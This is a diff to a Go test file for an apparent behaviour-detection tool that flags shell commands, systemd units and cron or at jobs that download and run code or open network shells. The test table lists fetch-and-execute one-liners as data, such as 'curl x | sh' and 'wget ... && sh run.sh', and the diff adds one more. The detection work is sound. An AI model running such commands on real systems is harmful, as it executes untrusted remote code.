@@ -26,6 +26,7 @@ func TestBehaviourOfCommands(t *testing.T) {
 		`$(curl x)`:                                                       {Fetches: []string{"curl into the shell"}},
 		`cd /tmp && wget http://x/run.sh && sh run.sh`:                    {Fetches: []string{"wget to a file that sh runs"}},
 		`curl -so /tmp/a http://x; chmod +x /tmp/a; /tmp/a`:               {Fetches: []string{"curl to a file that is run"}},
+		`X=$(curl x | sh)`:                                                {Fetches: []string{"curl into sh"}},
 		`fetch -o - x | perl`:                                             {Fetches: []string{"fetch into perl"}},
 		`su - app -c 'curl x | sh'`:                                       {Fetches: []string{"curl into sh"}},
 		// A shell for the network.
@@ -109,7 +110,7 @@ func TestBehaviourOfJobsAndUnits(t *testing.T) {
 	for name, check := range map[string]struct{ got, want *Behaviour }{
 		"a":    {f.Units["a.service"].Does, &Behaviour{Doors: doors, Fetches: fetches}},
 		"b":    {f.Units["b@.service"].Does, &Behaviour{Doors: []string{"bash on the unit's socket"}, Fetches: none}},
-		"part": {f.Jobs["/etc/cron.daily/get"].Does, &Behaviour{Doors: none, Fetches: []string{"curl into sh"}}},
+		"part": {f.Jobs["/etc/cron.daily/get"].Does, &Behaviour{Doors: none, Fetches: []string{"curl into sh in /etc/cron.daily/get"}}},
 		"py":   {f.Jobs["/etc/cron.daily/py"].Does, &Behaviour{Doors: none, Fetches: none}},
 		"tab":  {f.Jobs["/etc/crontab:2"].Does, &Behaviour{Doors: none, Fetches: none, Why: "the table's shell is /usr/bin/python3"}},
 		"at":   {f.At["/var/spool/cron/atjobs/a0000101c2f3a4"].Does, &Behaviour{Doors: none, Fetches: []string{"curl into sh"}}},
